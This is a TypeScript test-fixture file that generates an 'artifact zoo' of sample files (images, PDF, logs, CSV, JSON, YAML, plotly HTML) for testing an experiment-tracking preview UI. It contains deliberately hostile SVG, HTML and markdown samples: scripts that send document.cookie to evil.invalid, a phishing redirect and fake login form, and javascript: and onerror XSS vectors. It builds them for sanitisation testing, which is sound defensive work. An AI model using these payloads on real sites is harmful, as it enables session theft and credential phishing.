/**
 * Artifact files of a world: turning a run's `artifacts` (types.ts) into bytes, and the "artifact
 * zoo" of the contract world, one file of each kind a preview must handle (images, hostile SVG and
 * HTML, big text and JSON, a PDF, nested folders, an unknown binary) plus a run with 5,000 files in
 * one folder. The seed logs these bytes into a real server; the mocks serve the same bytes.
 */

import {
  BMP_16_BASE64,
  confusionMatrixPng,
  GIF_16_BASE64,
  JPEG_16_BASE64,
  makePng,
  PNG_16_BASE64,
  rocCurvePng,
  toBase64,
  WEBP_16_BASE64,
} from './artifact-images'
import { hexId } from './random'
import type { WorldArtifactContent, WorldArtifactFile, WorldArtifacts, WorldArtifactSeries } from './types'

export function isArtifactSeries(artifacts: WorldArtifacts): artifacts is WorldArtifactSeries {
  return !Array.isArray(artifacts)
}

function fill(template: string, i: number): string {
  return template.replaceAll('{i}', String(i))
}

/** The text a generator stands for (see WorldArtifactContent). */
function generatedText(content: Extract<WorldArtifactContent, { template: string }>): string {
  const items: string[] = []
  for (let i = 0; i < content.count; i++) items.push(fill(content.template, i))
  return `${content.head ?? ''}${items.join(content.separator ?? '')}${content.tail ?? ''}`
}

function base64Bytes(base64: string): Uint8Array {
  const binary = atob(base64)
  const bytes = new Uint8Array(binary.length)
  for (let i = 0; i < binary.length; i++) bytes[i] = binary.charCodeAt(i)
  return bytes
}

export function artifactBytes(content: WorldArtifactContent): Uint8Array {
  if ('base64' in content) return base64Bytes(content.base64)
  return new TextEncoder().encode('text' in content ? content.text : generatedText(content))
}

/** Every file of a run's artifacts, a series expanded (cheap: the paths and contents are short). */
export function artifactFiles(artifacts: WorldArtifacts | undefined): WorldArtifactFile[] {
  if (artifacts === undefined) return []
  if (!isArtifactSeries(artifacts)) return [...artifacts]
  const files: WorldArtifactFile[] = []
  for (let i = 0; i < artifacts.count; i++) {
    files.push({
      path: `${artifacts.dir}/${artifacts.prefix}${String(i).padStart(artifacts.digits, '0')}${artifacts.suffix}`,
      content: { text: fill(artifacts.template, i) },
    })
  }
  return files
}

// ---------------------------------------------------------------------------------------------------
// The zoo

/** A minimal valid one-page PDF ("Runboard test PDF"), its xref offsets computed. */
function minimalPdf(): string {
  const stream = 'BT /F1 18 Tf 36 96 Td (Runboard test PDF) Tj ET'
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 144] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]
  let pdf = '%PDF-1.4\n'
  const offsets: number[] = []
  objects.forEach((body, index) => {
    offsets.push(pdf.length)
    pdf += `${index + 1} 0 obj\n${body}\nendobj\n`
  })
  const xref = pdf.length
  pdf += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`
  for (const offset of offsets) pdf += `${String(offset).padStart(10, '0')} 00000 n \n`
  pdf += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`
  return pdf
}

const BENIGN_SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" viewBox="0 0 64 64">\n' +
  '  <rect width="64" height="64" fill="#f4f4f4"/>\n' +
  '  <circle cx="32" cy="32" r="20" fill="#1f77b4"/>\n' +
  '</svg>\n'

const HOSTILE_SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="alert(document.cookie)">\n' +
  '  <script>fetch("https://evil.invalid/?c=" + encodeURIComponent(document.cookie))</script>\n' +
  '  <rect width="64" height="64" fill="red" onmouseover="window.top.location=\'https://evil.invalid\'"/>\n' +
  '</svg>\n'

/**
 * A plotly figure as `mlflow.log_figure(fig, "x.html")` writes it (plotly 7.1's `to_html` with
 * `include_plotlyjs="cdn"`): plotly.js comes from cdn.plot.ly, so it draws only where the viewer can
 * reach that host. The real-usage run also logs a self-contained one (plotly bundled, 4.8 MB).
 */
const PLOTLY_CDN_FIGURE =
  '<html>\n<head><meta charset="utf-8" /></head>\n<body>\n    <div>' +
  '                        <script type="text/javascript">window.PlotlyConfig = {MathJaxConfig: \'local\'};</script>\n' +
  '        <script charset="utf-8" src="https://cdn.plot.ly/plotly-4.1.1.min.js" crossorigin="anonymous"></script>' +
  '                <div id="5c3e6f0a-figure" class="plotly-graph-div" style="height:100%; width:100%;"></div>' +
  '            <script type="text/javascript">' +
  '                window.PLOTLYENV=window.PLOTLYENV || {};' +
  '                if (document.getElementById("5c3e6f0a-figure")) {' +
  '                    Plotly.newPlot("5c3e6f0a-figure", [{"mode":"markers","x":[1.4,4.7,5.1],"y":[0.2,1.4,1.9],"type":"scatter"}],' +
  ' {"title":{"text":"Predicted class by petal size"}}, {"responsive": true}' +
  '                    )                };            </script>        </div>\n</body>\n</html>'

const HOSTILE_HTML =
  '<!doctype html>\n<html><head><title>report</title>\n' +
  '<script>alert(document.cookie); new Image().src = "https://evil.invalid/steal?c=" + document.cookie;</script>\n' +
  '</head><body onload="window.top.location=\'https://evil.invalid/phish\'">\n' +
  '<h1>Quarterly report</h1>\n' +
  '<form action="https://evil.invalid/login" method="post"><input name="password" type="password"><button>Sign in</button></form>\n' +
  '<iframe src="javascript:alert(1)"></iframe>\n' +
  '</body></html>\n'

const MARKDOWN =
  '# Model card\n\n' +
  'Trained on **MNIST**, see [the docs](https://mlflow.org) and [click me](javascript:alert(document.cookie)).\n\n' +
  '<script>alert("markdown")</script>\n\n' +
  '<img src=x onerror="alert(1)">\n\n' +
  '| metric | value |\n|---|---|\n| accuracy | 0.98 |\n\n' +
  '```python\nprint("hello")\n```\n'

const NESTED_JSON = JSON.stringify(
  {
    model: {
      name: 'cnn',
      layers: [
        { type: 'conv', filters: 32 },
        { type: 'dense', units: 10 },
      ],
    },
    metrics: { accuracy: 0.98, loss: 0.05, per_class: { '0': 0.99, '1': 0.97 } },
    tags: ['baseline', 'mnist'],
    notes: null,
    ok: true,
  },
  null,
  2,
)

interface ConfigValues {
  filters: number
  units: number
  lr: string
  epochs: number
  /** Lines appended at the end. */
  extra?: string
}

function configYaml(values: ConfigValues): string {
  return (
    `model:\n  name: cnn\n  layers:\n    - type: conv\n      filters: ${values.filters}\n    - type: dense\n      units: ${values.units}\n` +
    `optimizer:\n  name: adam\n  lr: ${values.lr}\nepochs: ${values.epochs}\n${values.extra ?? ''}`
  )
}

const YAML = configYaml({ filters: 32, units: 10, lr: '0.001', epochs: 10 })

/** Lines of the text log: `LOG_LINE` with `{i}` replaced, one per line. */
const LOG_LINE = '2026-01-05 09:00:00,000 INFO train.py:42 step {i} loss=0.1234 lr=0.001 grad_norm=1.2345'
const LOG_LINES = 3_500

const CSV_ROWS = 3_000
const TSV_ROWS = 500
const BIG_JSON_ITEMS = 24_000

// ---------------------------------------------------------------------------------------------------
// Images logged per step, as `MlflowClient.log_image(run_id, image, key=, step=, timestamp=)` names
// them (contract §11.3). The seed logs the same bytes under the same names with `log_artifacts`
// (log_image would draw a random uuid), and there are no `+compressed.webp` thumbnails: their bytes
// come from Pillow's WebP encoder, which the mocks cannot reproduce.

/** `images/<key, / written as ~>+step+<step>+timestamp+<ms>+<uuid>.png`. */
export function loggedImagePath(key: string, step: number, timestamp: number, uuid: string): string {
  return `images/${key.replaceAll('/', '~')}+step+${step}+timestamp+${timestamp}+${uuid}.png`
}

/** A fixed id in the shape of `str(uuid.uuid4())`, made from a name. */
export function fixedUuid(name: string): string {
  const hex = hexId(name)
  const variant = '89ab'[Number.parseInt(hex.charAt(16), 16) % 4] ?? '8'
  return `${hex.slice(0, 8)}-${hex.slice(8, 12)}-4${hex.slice(13, 16)}-${variant}${hex.slice(17, 20)}-${hex.slice(20, 32)}`
}

export interface LoggedImageSeriesSpec {
  key: string
  steps: readonly number[]
  png: (step: number) => Uint8Array
}

/** 2026-01-05T12:00:00Z: the first image of the zoo run; each step one minute later. */
const IMAGES_EPOCH = 1767614400000

/**
 * The files of a run's per-step images: each series' key at its steps, logged at `IMAGES_EPOCH +
 * offsetMs + step minutes` (a series after the first half a second later per series).
 */
export function loggedImageFiles(
  runName: string,
  series: readonly LoggedImageSeriesSpec[],
  offsetMs = 0,
): WorldArtifactFile[] {
  return series.flatMap((spec, index) =>
    spec.steps.map((step) => ({
      path: loggedImagePath(
        spec.key,
        step,
        IMAGES_EPOCH + offsetMs + step * 60_000 + index * 500,
        fixedUuid(`${runName}/${spec.key}/${step}`),
      ),
      content: { base64: toBase64(spec.png(step)) },
    })),
  )
}

// Small files that the zoo run and its siblings (ARTIFACT_COMPARE) share, with different contents.

const EVAL_LOG_LINES = [
  '2026-01-05 12:00:00,000 INFO eval.py:10 loading checkpoint epoch=10',
  '2026-01-05 12:00:01,250 INFO eval.py:22 dataset=mnist-test rows=10000',
  '2026-01-05 12:00:04,500 INFO eval.py:31 batch 1/4 accuracy=0.981',
  '2026-01-05 12:00:07,750 INFO eval.py:31 batch 2/4 accuracy=0.979',
  '2026-01-05 12:00:11,000 INFO eval.py:31 batch 3/4 accuracy=0.983',
  '2026-01-05 12:00:14,250 INFO eval.py:31 batch 4/4 accuracy=0.980',
  '2026-01-05 12:00:14,500 INFO eval.py:40 accuracy=0.9808 loss=0.0512',
  '2026-01-05 12:00:14,600 INFO eval.py:44 done',
]

function lines(list: readonly string[]): string {
  return `${list.join('\n')}\n`
}

const PREDICTION_ROWS = 12

/** `id,label,predicted,score` rows; `changes` overrides some rows by id (undefined drops the row). */
function predictionsCsv(
  changes: Readonly<Record<number, string | undefined>> = {},
  extra: readonly string[] = [],
): string {
  const rows = ['id,label,predicted,score']
  for (let id = 0; id < PREDICTION_ROWS; id++) {
    if (id in changes) {
      const row = changes[id]
      if (row !== undefined) rows.push(row)
      continue
    }
    const label = (id * 7) % 10
    rows.push(`${id},${label},${label},${(0.9 + (id % 5) * 0.02).toFixed(2)}`)
  }
  return lines([...rows, ...extra])
}

/** The artifact zoo run's files, by what they test. */
export const ARTIFACT_ZOO = {
  experiment: 'artifact-zoo',
  runName: 'artifact-zoo-run',
  manyRunName: 'artifact-many-files',
  manyDir: 'many',
  manyCount: 5_000,
  /** `many/file-0000.txt` … `many/file-4999.txt`. */
  manyFile: (i: number) => `many/file-${String(i).padStart(4, '0')}.txt`,
  paths: {
    png: 'plots/sample.png',
    jpg: 'plots/photo.jpg',
    gif: 'plots/anim.gif',
    webp: 'plots/thumb.webp',
    bmp: 'plots/raw.bmp',
    svg: 'plots/diagram.svg',
    hostileSvg: 'plots/hostile.svg',
    roc: 'plots/roc/roc_curve.png',
    log: 'logs/train.log',
    json: 'config.json',
    bigJson: 'data/predictions.json',
    yaml: 'config.yaml',
    markdown: 'README.md',
    csv: 'data/metrics.csv',
    tsv: 'data/metrics.tsv',
    html: 'reports/report.html',
    plotlyCdn: 'figures/plotly_cdn.html',
    pdf: 'reports/summary.pdf',
    reportText: 'reports/notes/summary.txt',
    binary: 'model/weights.bin',
    evalLog: 'logs/eval.log',
    predictions: 'eval/predictions.csv',
  },
  /** `log_image(key=, step=)` series of the zoo run (see LOGGED_IMAGES). */
  imageKeys: { confusion: 'confusion_matrix', roc: 'eval/roc' },
  logLines: LOG_LINES,
  csvRows: CSV_ROWS,
  tsvRows: TSV_ROWS,
  bigJsonItems: BIG_JSON_ITEMS,
} as const

const P = ARTIFACT_ZOO.paths

export const ARTIFACT_ZOO_FILES: readonly WorldArtifactFile[] = [
  { path: P.png, content: { base64: PNG_16_BASE64 } },
  { path: P.jpg, content: { base64: JPEG_16_BASE64 } },
  { path: P.gif, content: { base64: GIF_16_BASE64 } },
  { path: P.webp, content: { base64: WEBP_16_BASE64 } },
  { path: P.bmp, content: { base64: BMP_16_BASE64 } },
  { path: P.svg, content: { text: BENIGN_SVG } },
  { path: P.hostileSvg, content: { text: HOSTILE_SVG } },
  { path: P.roc, content: { base64: PNG_16_BASE64 } },
  { path: P.log, content: { template: LOG_LINE, count: LOG_LINES, separator: '\n', tail: '\n' } },
  { path: P.json, content: { text: NESTED_JSON } },
  {
    path: P.bigJson,
    content: {
      head: '{"predictions": [\n',
      template: '  {"id": {i}, "label": "class-{i}", "scores": [0.125, 0.25, 0.625], "correct": true}',
      count: BIG_JSON_ITEMS,
      separator: ',\n',
      tail: '\n]}\n',
    },
  },
  { path: P.yaml, content: { text: YAML } },
  { path: P.markdown, content: { text: MARKDOWN } },
  {
    path: P.csv,
    content: {
      head: 'step,loss,accuracy\n',
      template: '{i},0.5,0.9',
      count: CSV_ROWS,
      separator: '\n',
      tail: '\n',
    },
  },
  {
    path: P.tsv,
    content: {
      head: 'step\tloss\taccuracy\n',
      template: '{i}\t0.5\t0.9',
      count: TSV_ROWS,
      separator: '\n',
      tail: '\n',
    },
  },
  { path: P.html, content: { text: HOSTILE_HTML } },
  { path: P.plotlyCdn, content: { text: PLOTLY_CDN_FIGURE } },
  { path: P.pdf, content: { text: minimalPdf() } },
  { path: P.reportText, content: { text: 'All good.\n' } },
  // Bytes 0..255 four times: not text, no known type.
  {
    path: P.binary,
    content: { base64: btoa(String.fromCharCode(...Array.from({ length: 1024 }, (_, i) => i % 256))) },
  },
  { path: P.evalLog, content: { text: lines(EVAL_LOG_LINES) } },
  { path: P.predictions, content: { text: predictionsCsv() } },
  ...loggedImageFiles(ARTIFACT_ZOO.runName, [
    {
      key: ARTIFACT_ZOO.imageKeys.confusion,
      steps: [0, 1, 2, 3, 4],
      png: (step) => confusionMatrixPng(step),
    },
    { key: ARTIFACT_ZOO.imageKeys.roc, steps: [0, 2, 4], png: (step) => rocCurvePng(step) },
  ]),
]

export const ARTIFACT_MANY_FILES: WorldArtifactSeries = {
  dir: ARTIFACT_ZOO.manyDir,
  prefix: 'file-',
  suffix: '.txt',
  digits: 4,
  count: ARTIFACT_ZOO.manyCount,
  template: 'file {i}\n',
}

// ---------------------------------------------------------------------------------------------------
// Siblings of the zoo run, for comparing artifacts side by side: the same paths with other contents,
// each lacking some of the zoo run's files (and the last holding one the zoo run lacks).

export const ARTIFACT_COMPARE = {
  /** Most files changed a little; images at other steps, and other pixels. */
  runB: 'artifact-zoo-b',
  /** Fewer files: a config and predictions with rows removed and added, two images. */
  runC: 'artifact-zoo-c',
  /** A file only run C has. */
  onlyInC: 'notes.txt',
} as const

export const ARTIFACT_ZOO_B_FILES: readonly WorldArtifactFile[] = [
  {
    path: P.yaml,
    content: {
      text: configYaml({ filters: 64, units: 10, lr: '0.0005', epochs: 12, extra: 'scheduler: cosine\n' }),
    },
  },
  {
    path: P.json,
    content: {
      text: NESTED_JSON.replace('"accuracy": 0.98', '"accuracy": 0.97')
        .replace('"loss": 0.05', '"loss": 0.07')
        .replace('"1": 0.97', '"1": 0.95')
        .replace('"baseline"', '"candidate"'),
    },
  },
  {
    path: P.predictions,
    content: { text: predictionsCsv({ 3: '3,1,7,0.55', 7: '7,9,4,0.61' }) },
  },
  {
    path: P.evalLog,
    content: {
      text: lines([
        ...EVAL_LOG_LINES.slice(0, 2),
        '2026-01-05 12:00:01,300 WARNING eval.py:25 12 images could not be decoded, skipped',
        ...EVAL_LOG_LINES.slice(2, 4),
        // Batch 3 was not logged.
        ...EVAL_LOG_LINES.slice(5, 6),
        '2026-01-05 12:00:14,500 INFO eval.py:40 accuracy=0.9712 loss=0.0704',
        '2026-01-05 12:00:14,550 INFO eval.py:42 worse than the baseline by 0.0096',
        ...EVAL_LOG_LINES.slice(7),
      ]),
    },
  },
  // The zoo run's sample.png, drawn in other colours.
  {
    path: P.png,
    content: { base64: toBase64(makePng(16, 16, (x, y) => [(x * 16) & 0xff, 64, (y * 16) & 0xff])) },
  },
  ...loggedImageFiles(
    ARTIFACT_COMPARE.runB,
    [
      {
        key: ARTIFACT_ZOO.imageKeys.confusion,
        steps: [0, 1, 2, 3, 4],
        png: (step) => confusionMatrixPng(step, 1),
      },
      { key: ARTIFACT_ZOO.imageKeys.roc, steps: [1, 3], png: (step) => rocCurvePng(step, 1) },
    ],
    60 * 60_000,
  ),
]

export const ARTIFACT_ZOO_C_FILES: readonly WorldArtifactFile[] = [
  { path: P.yaml, content: { text: configYaml({ filters: 32, units: 10, lr: '0.001', epochs: 20 }) } },
  {
    path: P.predictions,
    content: {
      text: predictionsCsv({ 5: undefined, 9: '9,3,3,0.99' }, ['12,4,4,0.93', '13,1,1,0.97']),
    },
  },
  { path: P.evalLog, content: { text: lines([...EVAL_LOG_LINES.slice(0, 3), 'Killed']) } },
  {
    path: ARTIFACT_COMPARE.onlyInC,
    content: { text: 'Evaluation stopped early: out of memory on batch 2.\n' },
  },
  ...loggedImageFiles(
    ARTIFACT_COMPARE.runC,
    [{ key: ARTIFACT_ZOO.imageKeys.confusion, steps: [0, 2], png: (step) => confusionMatrixPng(step, 2) }],
    2 * 60 * 60_000,
  ),
]
